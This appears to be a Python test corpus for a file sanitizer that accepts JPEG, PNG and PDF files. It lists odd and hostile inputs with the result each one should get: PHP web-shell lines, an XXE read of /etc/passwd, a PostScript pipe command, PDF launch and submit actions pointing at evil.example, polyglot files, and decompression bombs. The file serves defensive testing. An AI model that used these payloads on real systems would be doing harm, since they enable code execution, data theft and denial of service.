"""Odd and hostile files, each with the expected result; their content is generated lazily."""

import gzip
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial
from io import BytesIO

from arthomed.files.cleaning import FileType
from tests.unit.files import corpus_images as images
from tests.unit.files import corpus_pdfs as pdfs
from tests.unit.files.corpus_images import MARKER

WRONG_TYPE = "none of JPEG, PNG and PDF"
DAMAGED_IMAGE = "image is damaged"
DAMAGED_PDF = "PDF is damaged"
TOO_MANY_PIXELS = "too many pixels"
SCRIPTS = "contains scripts"
ACTIONS = "contains actions"
ATTACHMENTS = "contains other files"
OVER_THE_LIMIT = "is damaged|needs more memory"  # the message depends on which allocation fails
TOO_LARGE_UNPACKED = "unpacks to more"
ENCRYPTED = "encrypted"


@dataclass(frozen=True)
class CorpusFile:
    """`expected` is the type if the file is accepted, or a pattern of the rejection message."""

    name: str
    expected: FileType | str
    make: Callable[[], bytes]

    @property
    def is_accepted(self) -> bool:
        return isinstance(self.expected, FileType)


def archive() -> bytes:
    stream = BytesIO()
    with zipfile.ZipFile(stream, "w") as opened:
        opened.writestr("[Content_Types].xml", MARKER)
    return stream.getvalue()


HTML = b"<!DOCTYPE html><script>alert('" + MARKER + b"')</script>"


def _image(image_format: str) -> Callable[[], bytes]:
    return lambda: images.encode(images.picture(), image_format)


def _constant(content: bytes) -> Callable[[], bytes]:
    return lambda: content


_JPEGS: dict[str, Callable[[], bytes]] = {
    "plain": images.jpeg,
    "exif_with_location": lambda: images.jpeg(exif=images.gps()),
    **{f"orientation_{turn}": partial(images.turned, turn) for turn in range(2, 9)},
    "exif_broken": lambda: images.jpeg_with(images.segment(0xE1, b"Exif\0\0MM\0*\xff\xff\xff\xff" + MARKER)),
    "exif_orientation_of_letters": lambda: images.jpeg_with(images.segment(0xE1, images.ODD_EXIF)),
    "exif_thumbnail_with_scan": lambda: images.jpeg_with(images.segment(0xE1, b"Exif\0\0" + images.jpeg()[:900])),
    "comment_of_php": lambda: images.jpeg(comment=b"<?php system('" + MARKER + b"'); ?>"),
    "colour_profile": lambda: images.jpeg(icc_profile=MARKER * 9000),
    "xmp": lambda: images.jpeg(xmp=b"<x:xmpmeta>" + MARKER + b"</x:xmpmeta>"),
    "unknown_segments": lambda: images.jpeg_with(*[images.segment(0xEB, MARKER * 100)] * 50),
    "zip_after": lambda: images.jpeg() + archive(),
    "html_after": lambda: images.jpeg() + HTML,
    "script_around": lambda: images.jpeg_with(images.segment(0xFE, b"*/=1;alert('" + MARKER + b"')/*")),
    "pdf_inside": lambda: images.jpeg_with(images.segment(0xFE, pdfs.with_action(pdfs.script()))),
    "progressive": lambda: images.jpeg(progressive=True),
    "progressive_with_fifty_scans": lambda: images.with_many_scans(50),
    "several_pictures": images.several_pictures,
    "grey": lambda: images.encode(images.picture("L"), "JPEG"),
    "cmyk": lambda: images.encode(images.picture("CMYK"), "JPEG", quality=95),
    "one_pixel": lambda: images.flat_jpeg(1, 1),
    "one_pixel_high": lambda: images.flat_jpeg(20_000, 1),
    "claims_to_be_bigger": lambda: images.with_frame_size(images.jpeg(), 9000, 9000),
    "of_fifty_megapixels": lambda: images.flat_jpeg(8160, 6120),
}
_PNGS: dict[str, Callable[[], bytes]] = {
    "plain": images.png,
    "alpha": lambda: images.png(mode="RGBA"),
    "grey_alpha": lambda: images.png(mode="LA"),
    "palette": lambda: images.png(mode="P"),
    "palette_turned": lambda: images.turned(6, "P", "PNG"),
    "palette_transparent": images.transparent_palette,
    "one_bit": lambda: images.png(mode="1"),
    "sixteen_bit_grey": lambda: images.png(mode="I;16"),
    "sixteen_bit_colour": images.sixteen_bits,
    "interlaced": images.interlaced,
    "animated": images.animated,
    "texts": images.with_texts,
    "exif_with_location": lambda: images.png(exif=images.gps()),
    "colour_profile": lambda: images.png(icc_profile=MARKER * 100),
    "of_too_few_rows": lambda: images.raw_png(60, 50, zlib.compress(bytes(181 * 20))),
    "without_end": lambda: images.png()[:-12],
    "zip_after": lambda: images.png() + archive(),
    "chunk_after_the_end": lambda: images.png() + images.chunk(b"tEXt", b"a\0" + MARKER),
    "data_after_the_pixels": lambda: images.png()[:-12] + images.chunk(b"IDAT", MARKER) + images.chunk(b"IEND"),
}
_PDFS: dict[str, Callable[[], bytes]] = {
    "plain": pdfs.pdf,
    "printer_commands_before": lambda: pdfs.pdf(header=b"\x1b%-12345X@PJL " + MARKER + b"\r\n"),
    "html_before": lambda: pdfs.pdf(header=HTML),
    "gif_before": lambda: pdfs.pdf(header=b"GIF89a=1;/*" + MARKER + b"*/"),
    "zip_after": lambda: pdfs.pdf() + archive(),
    "html_after": lambda: pdfs.pdf() + HTML[:700],
    "linearized": lambda: pdfs.rewritten(pdfs.pdf(), linearize=True),
    "object_streams": lambda: pdfs.in_object_streams(pdfs.pdf()),
    "producer_and_author": lambda: pdfs.pdf(b"<</Author(%s)>>" % MARKER, trailer=b"/Info 6 0 R"),
    "metadata": lambda: pdfs.pdf(pdfs.stream(MARKER, b"/Type/Metadata/Subtype/XML"), catalog=b"/Metadata 6 0 R"),
    "private_data": lambda: pdfs.pdf(page=b"/PieceInfo<</X<</Private(%s)>>>>" % MARKER),
    "nothing_refers_to_it": lambda: pdfs.pdf(b"(%s)" % MARKER),
    "earlier_version": lambda: pdfs.updated(pdfs.pdf(b"(%s)" % MARKER, catalog=b"/Lang 6 0 R"), 6, b"(en)"),
    "opens_at_a_page": lambda: pdfs.pdf(catalog=b"/OpenAction<</S/GoTo/D[3 0 R/Fit]>>"),
    "trigger_that_moves": lambda: pdfs.pdf(page=b"/AA<</O<</S/GoTo/D[3 0 R/Fit]>>>>"),
    "link_to_the_web": lambda: pdfs.with_action(b"<</S/URI/URI(https://lab.example)>>"),
    "form": lambda: pdfs.pdf(b"<</FT/Tx/T(name)/V(Asha)>>", catalog=b"/AcroForm<</Fields[6 0 R]>>"),
    "signed": lambda: pdfs.pdf(
        b"<</FT/Sig/T(s)/V<</Type/Sig/ByteRange[0 1 2 3]/Contents(%s)>>>>" % MARKER,
        catalog=b"/AcroForm<</SigFlags 3/Fields[6 0 R]>>",
    ),
    "ascii_encoded_text": lambda: pdfs.ascii_encoded(1),
    "named_destinations": lambda: pdfs.pdf(
        catalog=b"/Names<</Dests<</Names[(a)[3 0 R/Fit]]>>/IDS<</Names[(%s) 0]>>>>" % MARKER
    ),
    "page_of_another_file": lambda: pdfs.with_stream(b"", b"/Subtype/Form/Ref<</F(%s)/Page 0>>" % MARKER),
    "photograph_with_location": lambda: pdfs.with_stream(
        images.jpeg(exif=images.gps(), comment=MARKER) + MARKER, b"/Width 64/Height 48/Filter/DCTDecode"
    ),
    "photograph_with_odd_segments": lambda: pdfs.with_stream(
        images.jpeg()[:2]
        + b"\xff\xff"
        + images.segment(0xE1, b"Exif\0\0" + MARKER)
        + images.jpeg(progressive=True)[2:-2]
        + images.segment(0xFE, MARKER)
        + b"\xff\xd9"
        + images.jpeg(comment=MARKER),
        b"/Width 64/Height 48/Filter/DCTDecode",
    ),
    "photograph_with_a_zip_after": lambda: pdfs.with_stream(
        images.jpeg() + archive(), b"/Width 64/Height 48/Filter[/DCTDecode]/DecodeParms[null]"
    ),
    "objects_in_a_loop": lambda: pdfs.pdf(b"[7 0 R]", b"[6 0 R]", page=b"/XX 6 0 R"),
}
_REFUSED: dict[str, tuple[str, Callable[[], bytes]]] = {
    "nothing": ("is empty", _constant(b"")),
    "one_byte": (WRONG_TYPE, _constant(b"\xff")),
    "zero_bytes": (WRONG_TYPE, _constant(bytes(4096))),
    "text": (WRONG_TYPE, _constant(b"Paracetamol 500 mg")),
    "text_in_utf16": (WRONG_TYPE, _constant("%PDF-1.7 Paracetamol".encode("utf-16"))),
    "eicar_like": (WRONG_TYPE, _constant(b"X5O!P%@AP-" + MARKER)),
    "html": (WRONG_TYPE, _constant(HTML)),
    "svg": (WRONG_TYPE, _constant(b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>")),
    "xml": (WRONG_TYPE, _constant(b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>")),
    "javascript": (WRONG_TYPE, _constant(b"alert(1)")),
    "php": (WRONG_TYPE, _constant(b"<?php system($_GET[0]); ?>")),
    "shell_script": (WRONG_TYPE, _constant(b"#!/bin/sh\nid\n")),
    "windows_program": (WRONG_TYPE, _constant(b"MZ\x90\0" + bytes(2000))),
    "linux_program": (WRONG_TYPE, _constant(b"\x7fELF\2\1\1" + bytes(2000))),
    "zip": (WRONG_TYPE, archive),
    "gzip": (WRONG_TYPE, lambda: gzip.compress(MARKER, mtime=0)),
    "office_97": (WRONG_TYPE, _constant(bytes.fromhex("d0cf11e0a1b11ae1") + bytes(2000))),
    "rich_text": (WRONG_TYPE, _constant(rb"{\rtf1\object\objdata}")),
    "postscript": (WRONG_TYPE, _constant(b"%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id)(w)file")),
    "dicom": (WRONG_TYPE, _constant(bytes(128) + b"DICM" + bytes(500))),
    "heic": (WRONG_TYPE, _constant(b"\0\0\0\x18ftypheic" + bytes(500))),
    "mp4": (WRONG_TYPE, _constant(b"\0\0\0\x18ftypisom" + bytes(500))),
    "gif": (WRONG_TYPE, _image("GIF")),
    "gif_that_is_javascript": (WRONG_TYPE, _constant(b"GIF89a=1;alert(1);/*" + bytes(500))),
    "bmp": (WRONG_TYPE, _image("BMP")),
    "tiff": (WRONG_TYPE, _image("TIFF")),
    "webp": (WRONG_TYPE, _image("WEBP")),
    "ico": (WRONG_TYPE, _image("ICO")),
    "jpeg_2000": (WRONG_TYPE, _constant(b"\0\0\0\x0cjP  \r\n\x87\n" + bytes(500))),
    "byte_before_jpeg": (WRONG_TYPE, lambda: b"\n" + images.jpeg()),
    "byte_before_png": (WRONG_TYPE, lambda: b"\n" + images.png()),
    "pdf_header_too_late": (WRONG_TYPE, lambda: pdfs.pdf(header=bytes(2000))),
    "jpeg_magic_only": (DAMAGED_IMAGE, _constant(b"\xff\xd8\xff")),
    "jpeg_magic_and_html": (DAMAGED_IMAGE, _constant(b"\xff\xd8\xff\xe0" + HTML)),
    "jpeg_magic_and_pdf": (DAMAGED_IMAGE, lambda: b"\xff\xd8\xff" + pdfs.pdf()),
    "jpeg_cut_in_header": (DAMAGED_IMAGE, lambda: images.jpeg()[:100]),
    "jpeg_cut_in_half": (DAMAGED_IMAGE, lambda: images.jpeg()[: len(images.jpeg()) // 2 + 200]),
    "jpeg_of_no_height": (DAMAGED_IMAGE, lambda: images.with_frame_size(images.jpeg(), 64, 0)),
    "jpeg_claims_65500_square": (TOO_MANY_PIXELS, lambda: images.with_frame_size(images.jpeg(), 65500, 65500)),
    "jpeg_cut_before_its_end": (DAMAGED_IMAGE, lambda: images.jpeg()[:-2]),
    "jpeg_with_a_thousand_scans": ("too many passes", lambda: images.with_many_scans(1000)),
    "jpeg_scans_after_a_false_end": (OVER_THE_LIMIT, images.scans_after_a_false_end),
    "jpeg_progressive_too_large": (
        "baseline",
        lambda: images.flat_jpeg(3264, 2448, "RGB", progressive=True, subsampling="4:4:4"),
    ),
    "jpeg_progressive_bomb": ("baseline", lambda: images.flat_jpeg(6000, 6000, progressive=True)),
    "png_magic_only": (DAMAGED_IMAGE, lambda: images.png()[:8]),
    "png_magic_and_zip": (DAMAGED_IMAGE, lambda: images.png()[:8] + archive()),
    "png_cut_in_half": (DAMAGED_IMAGE, lambda: images.png()[: len(images.png()) // 2]),
    "png_with_wrong_checksum": (DAMAGED_IMAGE, lambda: images.png()[:29] + b"\0\0\0\0" + images.png()[33:]),
    "png_of_garbage_pixels": (DAMAGED_IMAGE, lambda: images.raw_png(64, 48, b"\x78\xda" + MARKER * 50)),
    "png_of_no_width": (DAMAGED_IMAGE, lambda: images.raw_png(0, 48, zlib.compress(b""))),
    "png_without_its_palette": (DAMAGED_IMAGE, lambda: images.raw_png(2, 1, zlib.compress(bytes(3)), colour=3)),
    "png_bomb": (TOO_MANY_PIXELS, lambda: images.raw_png(20_000, 20_000, images.zeros(50), colour=0)),
    "png_over_the_memory_limit": (TOO_MANY_PIXELS, lambda: images.raw_png(4000, 4000, images.zeros(49))),
    "png_claims_two_billion": (TOO_MANY_PIXELS, lambda: images.raw_png(2**31 - 1, 2**31 - 1, zlib.compress(b""))),
    "png_one_line_of_millions": (TOO_MANY_PIXELS, lambda: images.raw_png(10_000_000, 1, images.zeros(31))),
    "png_text_bombs": (DAMAGED_IMAGE, images.text_bombs),
    "png_profile_bomb": (DAMAGED_IMAGE, lambda: images.png_with(images.chunk(b"iCCP", b"a\0\0" + images.zeros(300)))),
    "pdf_header_only": (DAMAGED_PDF, _constant(b"%PDF-1.7\n")),
    "pdf_header_and_html": (DAMAGED_PDF, _constant(b"%PDF-1.7\n" + HTML)),
    "pdf_cut_in_half": (DAMAGED_PDF, lambda: pdfs.pdf()[:350]),
    "pdf_table_points_nowhere": (DAMAGED_PDF, lambda: pdfs.pdf().replace(b"startxref\n", b"startxref\n9")),
    "pdf_html_after_far": (DAMAGED_PDF, lambda: pdfs.pdf() + HTML * 100),
    "pdf_without_pages": ("at least one page", lambda: pdfs.pdf(pages=b"<</Type/Pages/Kids[]/Count 0>>")),
    "pdf_of_too_many_pages": ("at least one page", lambda: pdfs.many_pages(1001)),
    "pdf_encrypted": (ENCRYPTED, lambda: pdfs.encrypted(user="secret")),
    "pdf_encrypted_for_its_owner": (ENCRYPTED, lambda: pdfs.encrypted(user="")),
    "pdf_script_on_opening": (SCRIPTS, lambda: pdfs.pdf(catalog=b"/OpenAction" + pdfs.script())),
    "pdf_script_by_name": (SCRIPTS, lambda: pdfs.pdf(catalog=b"/Names<</JavaScript<</Names[(a)]>>>>")),
    "pdf_script_on_page": (SCRIPTS, lambda: pdfs.pdf(page=b"/AA<</O%s>>" % pdfs.script())),
    "pdf_script_on_link": (SCRIPTS, lambda: pdfs.with_action(pdfs.script())),
    "pdf_script_in_field": (SCRIPTS, lambda: pdfs.with_field(b"/FT/Tx/AA<</K%s>>" % pdfs.script())),
    "pdf_script_next": (SCRIPTS, lambda: pdfs.with_action(b"<</S/GoTo/D[3 0 R/Fit]/Next[%s]>>" % pdfs.script())),
    "pdf_script_spelled_oddly": (SCRIPTS, lambda: pdfs.with_action(b"<</S/J#61vaScri#70t/#4aS(1)>>")),
    "pdf_script_in_object_streams": (SCRIPTS, lambda: pdfs.in_object_streams(pdfs.with_action(pdfs.script()))),
    "pdf_script_out_of_reach": (SCRIPTS, lambda: pdfs.pdf(pdfs.script())),
    "pdf_script_in_a_stream_dictionary": (SCRIPTS, lambda: pdfs.with_stream(b"", b"/XX" + pdfs.script())),
    "pdf_script_named_from_afar": (SCRIPTS, lambda: pdfs.pdf(b"/JavaScript", page=b"/XX<</S 6 0 R>>")),
    "pdf_script_in_an_update": (SCRIPTS, lambda: pdfs.updated(pdfs.pdf(b"null", page=b"/XX 6 0 R"), 6, pdfs.script())),
    "pdf_script_nested_deep": (SCRIPTS, lambda: pdfs.pdf(page=b"/XX" + b"[" * 300 + pdfs.script() + b"]" * 300)),
    "pdf_form_of_xml": (SCRIPTS, lambda: pdfs.pdf(pdfs.stream(MARKER), catalog=b"/AcroForm<</XFA 6 0 R/Fields[]>>")),
    "pdf_postscript": (SCRIPTS, lambda: pdfs.with_stream(b"(x) print", b"/Type/XObject/Subtype/PS")),
    "pdf_launches": (ACTIONS, lambda: pdfs.with_action(b"<</S/Launch/F(cmd.exe)>>")),
    "pdf_submits": (ACTIONS, lambda: pdfs.with_action(b"<</S/SubmitForm/F(https://evil.example)>>")),
    "pdf_imports": (ACTIONS, lambda: pdfs.with_action(b"<</S/ImportData/F(data.fdf)>>")),
    "pdf_goes_to_a_file": (ACTIONS, lambda: pdfs.with_action(rb"<</S/GoToR/F(\\\\evil.example\\a.pdf)/D[0/Fit]>>")),
    "pdf_goes_to_an_attachment": (ACTIONS, lambda: pdfs.with_action(b"<</S/GoToE/D[0/Fit]/T<</R/C>>>>")),
    "pdf_link_of_script": (ACTIONS, lambda: pdfs.with_action(b"<</S/URI/URI(java\tscript:alert\\(1\\))>>")),
    "pdf_link_to_another_host": (ACTIONS, lambda: pdfs.with_action(b"<</S/URI/URI(//evil.example/a)>>")),
    "pdf_link_to_a_share": (ACTIONS, lambda: pdfs.with_action(rb"<</S/URI/URI(\\\\evil.example\\a)>>")),
    "pdf_attachment": (ATTACHMENTS, pdfs.with_attachment),
    "pdf_attachment_on_page": (ATTACHMENTS, lambda: pdfs.with_annotation(b"FileAttachment", b"/FS<</F(a)>>")),
    "pdf_attachment_out_of_reach": (ATTACHMENTS, lambda: pdfs.pdf(pdfs.stream(MARKER, b"/Type/EmbeddedFile"))),
    "pdf_rich_media": (ATTACHMENTS, lambda: pdfs.with_annotation(b"RichMedia")),
    "pdf_movie": (ATTACHMENTS, lambda: pdfs.with_annotation(b"Movie", b"/Movie<</F(a.avi)>>")),
    "pdf_rendition": (ATTACHMENTS, lambda: pdfs.with_action(b"<</S/Rendition/OP 0>>")),
    "pdf_model_3d": (ATTACHMENTS, lambda: pdfs.with_annotation(b"3D")),
    "pdf_stream_from_a_file": (ATTACHMENTS, lambda: pdfs.with_stream(b"", b"/F(/etc/passwd)")),
    "pdf_names_a_file": (ATTACHMENTS, lambda: pdfs.pdf(page=b"/XX<</Type/Filespec/F(/etc/passwd)>>")),
    "pdf_names_a_file_of_the_web": (ATTACHMENTS, lambda: pdfs.pdf(page=b"/XX<</FS/URL/F(https://evil.example)>>")),
    "pdf_zip_in_a_stored_stream": (
        ATTACHMENTS,
        lambda: pdfs.with_stream(zlib.compress(archive(), 0), b"/Filter/FlateDecode"),
    ),
    "pdf_script_in_a_font": (DAMAGED_PDF, lambda: pdfs.pdf(page=b"/XX<</FontMatrix[1 2 3 4 5 (alert\\(1\\))]>>")),
    "pdf_stream_bomb": (TOO_LARGE_UNPACKED, lambda: pdfs.with_stream(images.zeros(310), b"/Filter/FlateDecode")),
    "pdf_stream_packed_twice": ("more than once", lambda: pdfs.with_stream(b"", b"/Filter[/FlateDecode/FlateDecode]")),
    "pdf_stream_bomb_ascii_encoded": (OVER_THE_LIMIT, lambda: pdfs.ascii_encoded(100)),
    "pdf_stream_of_garbage": (DAMAGED_PDF, lambda: pdfs.with_stream(MARKER, b"/Filter/FlateDecode")),
    "pdf_object_stream_bomb": (OVER_THE_LIMIT, lambda: pdfs.object_stream_bomb(290)),
    "pdf_image_bomb": (TOO_MANY_PIXELS, lambda: pdfs.with_stream(b"", b"/Width 60000/Height 60000/Filter/JBIG2Decode")),
    "pdf_image_bomb_in_real_numbers": (
        TOO_MANY_PIXELS,
        lambda: pdfs.with_stream(b"", b"/Width 60000.0/Height 60000.0/Filter/JBIG2Decode"),
    ),
    "pdf_image_bombs": (
        TOO_MANY_PIXELS,
        lambda: pdfs.pdf(*[pdfs.stream(b"", b"/Width 14000/Height 14000/Filter/JBIG2Decode")] * 11),
    ),
    "pdf_pages_in_a_loop": (DAMAGED_PDF, lambda: pdfs.pdf(pages=b"<</Type/Pages/Kids[2 0 R]/Count 1>>")),
    "pdf_pages_too_deep": (DAMAGED_PDF, lambda: pdfs.deep_page_tree(200)),
    "pdf_nested_too_deep": (DAMAGED_PDF, lambda: pdfs.pdf(b"[" * 100_000 + b"]" * 100_000)),
    "pdf_length_in_a_loop": (DAMAGED_PDF, lambda: pdfs.pdf(b"<</Length 6 0 R>>\nstream\na\nendstream")),
    "pdf_of_too_many_objects": ("too many objects", lambda: pdfs.pdf(*[b"0"] * 50_000)),
    "pdf_of_too_much_detail": (OVER_THE_LIMIT, lambda: pdfs.pdf(*[b"<</A[0 0 0 0]/B<</C 0/D 0>>>>"] * 45_000)),
    "pdf_array_of_millions": (OVER_THE_LIMIT, lambda: pdfs.pdf(b"[" + b"0 " * 4_900_000 + b"]")),
    "pdf_claims_a_billion_objects": (DAMAGED_PDF, lambda: pdfs.pdf().replace(b"xref\n0 6", b"xref\n0 1000000000")),
    "pdf_tables_in_a_loop": (DAMAGED_PDF, lambda: pdfs.pdf(trailer=b"/Prev 625")),
}  # fmt: skip
CORPUS = [
    *(CorpusFile(f"jpeg_{name}", FileType.JPEG, make) for name, make in _JPEGS.items()),
    *(CorpusFile(f"png_{name}", FileType.PNG, make) for name, make in _PNGS.items()),
    *(CorpusFile(f"pdf_{name}", FileType.PDF, make) for name, make in _PDFS.items()),
    *(CorpusFile(name, expected, make) for name, (expected, make) in _REFUSED.items()),
]
